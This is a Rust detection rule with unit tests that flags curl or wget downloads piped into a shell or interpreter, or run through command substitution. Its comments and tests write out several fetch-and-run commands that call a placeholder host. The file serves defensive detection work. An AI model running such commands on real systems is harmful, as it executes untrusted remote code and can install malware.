//! Download Piped into a Shell or Interpreter.
//!
//! `curl … | sh` runs whatever a web server hands out, never touching disk
//! and leaving nothing to inspect afterwards. Installers use it too, but it
//! is above all how droppers and crypto-miners get a foothold: one line that
//! transfers a tool and runs it (ATT&CK T1105 Ingress Tool Transfer,
//! executed by T1059.004 Unix Shell).
//!
//! The rule fires when, in one pipeline, a `curl` or `wget` stage is
//! followed by a stage that runs a shell (`sh`, `bash`, …) or an
//! interpreter (`python3`, `perl`, `ruby`, `php`, `node`) *reading its
//! program from standard input* — no arguments, `-s`, `-` or `/dev/stdin` —
//! also behind `sudo`/`env` (`curl … | sudo -E bash -s -- --opt`). Stages in
//! between do not matter (`curl … | tee x.sh | sh` still runs the download).
//! It also fires when a download's output is executed by substitution:
//! `bash -c "$(curl …)"`, `eval "$(wget -qO- …)"`, `bash <(curl …)`,
//! `source <(curl …)`, or `$(curl …)` in command position.
//!
//! Deliberately not firing: downloads saved to a file (`curl -o x.sh`), even
//! when run by a later command; pipes into anything that is not a shell or
//! interpreter (`grep`, `jq`, `tee`, `tar`); and interpreters given their
//! program inline, for which the download is only data
//! (`curl … | python3 -m json.tool`, `curl … | python3 -c '…json.load…'`).

use dac_rule_sdk::prelude::*;
use dac_rule_sdk::shell::{executed_substitution, piped_into_interpreter};

dac_rule_sdk::rule! {
    name: "Download Piped into a Shell or Interpreter",
    uuid: "7ce07b7e-a538-44fa-9508-7c67749aecdc",
    severity: High,
    description: "curl or wget output is piped straight into a shell or script interpreter (or executed via $(…) / <(…)), running remote code without saving it.",
    tags: [
        "attack.execution",
        "attack.t1059.004",
        "attack.command-and-control",
        "attack.t1105",
    ],
    prefilter: { fields: ["command_line"], literals: ["curl", "wget"] },
    evaluate: download_pipe_shell,
}

const DOWNLOADERS: &[&str] = &["curl", "wget"];

fn download_pipe_shell(event: &Event) -> Option<Finding> {
    let command_line = event.text("command_line")?;
    let message = piped_download(&command_line).or_else(|| substituted_download(&command_line))?;
    Some(Finding::new(message).matched("command_line", command_line))
}

/// `curl … | [stages |] sh`: a download stage, then a stage running its input.
fn piped_download(command_line: &str) -> Option<String> {
    let (downloader, runner) = piped_into_interpreter(command_line, downloads)?;
    Some(format!("{downloader} output piped into {runner}"))
}

/// `bash -c "$(curl …)"`, `eval $(wget -qO- …)`, `bash <(curl …)`.
fn substituted_download(command_line: &str) -> Option<String> {
    let (downloader, executor) = executed_substitution(command_line, downloads)?;
    Some(format!("{downloader} output executed by {executor}"))
}

/// Whether `program` downloads: the downloader's name.
fn downloads(program: &str, _args: &[&str]) -> Option<&'static str> {
    any_of(program, DOWNLOADERS)
}

dac_rule_sdk::fixture_tests!(DetectionRule);

#[cfg(test)]
mod tests {
    use super::*;
    use dac_rule_sdk::testing::evaluate_command_line;

    fn message(command_line: &str) -> Option<String> {
        evaluate_command_line::<DetectionRule>(command_line).pop().map(|finding| finding.message)
    }

    #[test]
    fn pipes_into_a_shell_reading_stdin_fire() {
        assert_eq!(message("/bin/sh -c curl -fsSL http://x/i.sh | sh").unwrap(), "curl output piped into sh");
        assert_eq!(
            message("/bin/sh -c curl -s http://x/i.sh | sudo -E bash -s -- --yes").unwrap(),
            "curl output piped into bash"
        );
        assert!(message("/bin/sh -c wget -qO- http://x/i.sh | tee /tmp/i.sh | sh").is_some());
        assert!(message("/bin/sh -c curl -sSL https://install.python-poetry.org | python3 -").is_some());
        assert!(message("/bin/sh -c curl http://x/a | sh 2>/dev/null").is_some());
    }

    #[test]
    fn data_pipes_and_saved_files_do_not_fire() {
        assert!(message("/bin/sh -c curl -s https://x/v | python3 -m json.tool").is_none());
        assert!(message("/bin/sh -c curl -s https://x/v | python3 -c 'import json,sys; print(json.load(sys.stdin))'")
            .is_none());
        assert!(message("/bin/sh -c curl -s https://x/v | bash ./process.sh").is_none());
        assert!(message("/bin/sh -c curl -fsS https://x/health || bash -c 'systemctl restart app'").is_none());
        assert!(message("/bin/sh -c sh -c 'echo curl' | grep curl").is_none());
    }

    #[test]
    fn substitutions_that_execute_the_download_fire() {
        assert_eq!(
            message(r#"/bin/sh -c /bin/bash -c "$(curl -fsSL https://x/install.sh)""#).unwrap(),
            "curl output executed by /bin/bash"
        );
        assert_eq!(message("/bin/sh -c eval `wget -qO- http://x/env`").unwrap(), "wget output executed by eval");
        assert_eq!(message("/bin/bash -c source <(curl -s http://x/env)").unwrap(), "curl output executed by source");
        assert!(message("/bin/sh -c cd /tmp; $(curl -s http://x/cmd)").is_some());
        assert!(message(r#"/bin/sh -c echo "$(curl -s https://x/v)""#).is_none());
        assert!(message("/bin/sh -c v=$(curl -s https://x/v)").is_none());
    }
}
